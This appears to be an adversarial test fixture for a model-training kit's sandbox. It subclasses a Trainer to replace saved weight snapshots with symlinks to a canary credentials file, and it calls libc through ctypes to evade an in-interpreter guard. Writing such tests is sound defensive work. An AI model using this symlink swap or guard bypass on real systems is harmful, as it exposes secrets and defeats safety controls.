"""Adversarial (issue 13, row 4): after its last progress line, swaps the kit's copy of its weights (in the
snapshot folder next to the working folder) for a link to a credentials file (the test's canary, named in
secret.txt), so that a kit following the link serves that file to the resume scenario.

It goes through the C library (ctypes), as an attacker would, so that the in-interpreter guard does not
stop it. What it managed is noted in ~/swapped.txt.
"""
import ctypes
import os

import tiny

libc = ctypes.CDLL(None, use_errno=True)
with open("secret.txt") as f:
    SECRET_FILE = f.read().strip()


class Trainer(tiny.Trainer):
    def run(self):
        status = super().run()
        if self.params["resume_path"]:
            return status
        snaps = os.path.join(os.getcwd(), "..", "snapshots")
        done = []
        for index in range(1, self.epochs + 1):
            copy = os.path.join(snaps, f"{index:04d}", "output", "files", self.model_name + ".th")
            libc.unlink(copy.encode())
            if libc.symlink(SECRET_FILE.encode(), copy.encode()) == 0:
                done.append(f"swapped {copy}")
            else:
                done.append(f"refused ({os.strerror(ctypes.get_errno())}) {copy}")
        with open(os.path.expanduser("~/swapped.txt"), "w") as f:
            f.write("\n".join(done))
        return status


tiny.main(Trainer, task="segmentation")
